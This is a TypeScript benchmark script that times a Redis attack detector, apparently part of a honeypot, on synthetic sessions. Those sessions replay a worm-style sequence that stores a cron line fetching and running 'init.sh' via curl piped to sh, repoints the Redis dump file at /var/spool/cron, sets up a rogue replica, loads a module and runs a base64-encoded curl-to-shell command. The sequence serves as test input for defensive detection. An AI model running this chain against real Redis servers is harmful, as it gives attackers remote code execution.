// How many events a second the rules, the campaigns and the ledger take, beside the bare machine reading the same
// events from JSON: node bench/detection.ts [sessions]

import { join } from 'node:path';
import { createLedger } from '../src/analysis/ledger.ts';
import { createCampaignMatcher, loadCampaigns } from '../src/detect/campaigns.ts';
import { createDetector } from '../src/detect/detector.ts';
import { loadRules } from '../src/detect/rules.ts';
import type { Event } from '../src/model/event.ts';
import { packageRoot, textFiles } from '../src/platform/files.ts';
import { interpretCommand } from '../src/redis/interpret.ts';

const sessions = Number(process.argv[2] ?? 2_000);
const LOADER = '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n';
const HIDDEN = Buffer.from('curl http://203.0.113.9/x | sh').toString('base64');

/** One visit: half of it a worm, half of it what scanners and clients send. */
const VISIT = [
  ['info'],
  ['client', 'list'],
  ['config', 'get', 'dir'],
  ['get', 'session:4711'],
  ['set', 'k:123', 'some plain value'],
  ['lpush', 'queue', JSON.stringify({ job: 1, data: 'x'.repeat(200) })],
  ['set', 'backup1', LOADER],
  ['config', 'set', 'dir', '/var/spool/cron'],
  ['config', 'set', 'dbfilename', 'root'],
  ['save'],
  ['slaveof', '203.0.113.4', '8886'],
  ['module', 'load', '/tmp/exp.so'],
  ['system.exec', `echo ${HIDDEN} | base64 -d | sh`],
  ['flushall'],
];

const events: Event[] = [];
for (let visit = 0; visit < sessions; visit++) {
  for (const argv of VISIT) {
    for (const act of interpretCommand(
      argv,
      { reply: 'ok' },
      { db: 0, dir: '/var/spool/cron', dbfilename: 'root' },
    )) {
      events.push({
        id: `bench-${events.length}`,
        time: 1_760_000_000_000 + events.length,
        vantage: 'sensor',
        sensor: 'bench',
        session: `s${visit}`,
        peer: { address: `198.51.100.${visit % 250}`, port: 1_024 + visit },
        act,
      });
    }
  }
}

const loaded = loadRules(textFiles(join(packageRoot, 'rules'), '.yaml'));
const campaigns = loadCampaigns(
  textFiles(join(packageRoot, 'campaigns'), '.yaml'),
  loaded.patterns,
).campaigns;

function timed(name: string, work: () => void): number {
  const began = performance.now();
  work();
  const ms = performance.now() - began;
  console.log(`${name.padEnd(28)} ${Math.round((events.length / ms) * 1_000).toLocaleString('en')} events/s`);
  return ms;
}

const lines = events.map((event) => JSON.stringify(event));
const parse = (): void => {
  for (const line of lines) JSON.parse(line);
};
const detect = (): void => {
  const detector = createDetector(loaded.rules);
  const ledger = createLedger({ campaigns: createCampaignMatcher(campaigns) });
  for (const event of events) {
    const { findings, held } = detector.observe(event);
    ledger.observe(event, findings, held);
  }
};
parse();
detect();
console.log(
  `${events.length} events of ${sessions} sessions, ${loaded.rules.length} rules, ${campaigns.length} campaigns`,
);
const bare = timed('bare machine: JSON.parse', parse);
const own = timed('rules, campaigns, ledger', detect);
console.log(`ratio: ${(own / bare).toFixed(1)} times the cost of JSON.parse`);
